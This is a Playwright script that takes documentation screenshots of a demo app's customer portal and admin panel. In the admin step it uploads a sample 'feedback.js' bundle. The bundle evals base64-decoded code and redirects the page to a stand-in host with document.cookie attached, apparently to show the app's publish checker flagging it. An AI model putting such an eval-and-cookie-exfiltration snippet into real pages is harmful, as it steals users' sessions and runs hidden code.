// Renews docs/screenshots from a running demo: `node scripts/screenshots.mjs <app origin> <admin password>`.
import { mkdir } from "node:fs/promises";
import path from "node:path";
import { fileURLToPath } from "node:url";
import { chromium } from "playwright-core";
import { findChromium } from "./find-chromium.mjs";

const [origin = "http://localhost:3000", password = ""] = process.argv.slice(2);
const folder = path.join(path.dirname(fileURLToPath(import.meta.url)), "../docs/screenshots");
await mkdir(folder, { recursive: true });
const browser = await chromium.launch({ executablePath: findChromium(), args: ["--no-sandbox"] });

const open = async (options) => {
  const context = await browser.newContext({ viewport: { width: 1280, height: 860 }, ...options });
  return context.newPage();
};
const shoot = (page, name, options = {}) => page.screenshot({ path: path.join(folder, `${name}.png`), ...options });

async function shootPortal(name, options) {
  const page = await open(options);
  await page.goto(`${origin}/portal`);
  await page.getByRole("button", { name: /Oliver/ }).click();
  await page
    .getByRole("link", { name: /Puppy Club/ })
    .first()
    .click();
  await page.locator('[data-vitrine-state="ready"]').first().waitFor();
  await shoot(page, name, { fullPage: true });
  return page;
}

const portal = await shootPortal("portal-subscription", {});
const widget = portal.frameLocator('iframe[title*="Puppy check-in"]');
await widget.locator("input[type=number]").first().fill("4.9");
await widget.getByRole("button", { name: /Save/ }).click();
await portal.locator("dialog[open] button:not([disabled]) >> nth=1").waitFor();
await shoot(portal, "portal-confirmation");
await portal.getByRole("dialog").getByRole("button", { name: "Cancel" }).click();
await shootPortal("portal-phone-dark", { viewport: { width: 390, height: 844 }, colorScheme: "dark" });

async function shootPanel(name, options) {
  const page = await open(options);
  await page.goto(`${origin}/admin`);
  await page.getByLabel("E-mail").fill("admin@vitrine.example");
  await page.getByLabel("Password").fill(password);
  await page.getByRole("button", { name: "Sign in" }).click();
  await page.waitForURL(`${origin}/admin`);
  await page.goto(`${origin}/admin/resources/widgets`);
  await page.getByText("Feedback", { exact: true }).first().waitFor();
  await shoot(page, `${name}-widgets`);
  await page.getByText("Feedback", { exact: true }).first().click();
  await page
    .getByRole("link", { name: "Replace bundle" })
    .or(page.getByRole("button", { name: "Replace bundle" }))
    .first()
    .click();
  const bundle =
    'gro.onReady(function () {\n  const code = atob("YWxlcnQoMSk=");\n  eval(code);\n  location.href = "https://collect.example/?c=" + document.cookie;\n});\n';
  await page.locator("input[type=file]").setInputFiles({ name: "feedback.js", mimeType: "text/javascript", buffer: Buffer.from(bundle) });
  await page.getByRole("button", { name: "Check and publish" }).click();
  await page
    .getByText(/feedback\.js:\d+:\d+/)
    .first()
    .waitFor();
  await shoot(page, `${name}-replace-bundle`, { fullPage: true });
}
await shootPanel("panel", {});
await shootPanel("panel-phone-dark", { viewport: { width: 390, height: 844 }, colorScheme: "dark" });
await browser.close();
